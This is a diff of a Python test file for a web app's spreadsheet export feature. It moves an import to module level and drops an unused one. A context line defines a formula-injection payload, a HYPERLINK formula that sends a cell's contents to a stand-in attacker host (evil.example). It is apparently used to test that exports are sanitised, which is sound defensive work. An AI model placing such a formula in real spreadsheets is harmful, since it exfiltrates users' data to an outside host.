@@ -12,8 +12,9 @@ import pytest
 from openpyxl import load_workbook
 
 from app.models import ExportJob
+from app.services import export_jobs, jobs
 from app.views._export import ExportMixin
-from tests.conftest import STAFF_PASSWORD, login, login_staff, page_text
+from tests.conftest import STAFF_PASSWORD, login, login_staff
 from tests.test_certificate import _issue, passed  # noqa: F401 — the fixture is used below
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
@@ -235,7 +236,6 @@ def test_a_big_export_is_a_background_job_with_progress_and_download(app, make_e
         job_id = int(job_url.rstrip("/").rsplit("/", 1)[1])
         with app.app_context():
             job = db.session.get(ExportJob, job_id)
-            from app.services import export_jobs, jobs
             jobs.run(export_jobs.TASK_EXPORT, job.id, job.task_id)
             again = db.session.get(ExportJob, job_id)
             db.session.refresh(again)
